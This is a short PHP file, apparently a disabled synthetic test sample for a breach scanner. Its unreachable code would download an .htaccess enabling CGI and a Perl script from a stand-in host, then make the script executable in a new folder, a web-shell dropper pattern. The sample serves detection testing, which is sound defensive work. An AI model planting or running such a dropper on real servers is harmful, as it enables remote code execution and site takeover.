<?php
// synthetic test sample for breachscan: downloads an .htaccess that turns CGI on and a Perl
// script into a new folder (the host is made up). Disabled.
return;
@mkdir('tools');
$conf = file_get_contents('http://payload.example.invalid/ht.txt');
$fp = fopen('tools/.htaccess', 'w');
fwrite($fp, $conf);
fclose($fp);
$pl = file_get_contents('http://payload.example.invalid/cgi.txt');
file_put_contents('tools/run.cgi', $pl);
@chmod('tools/run.cgi', 0755);
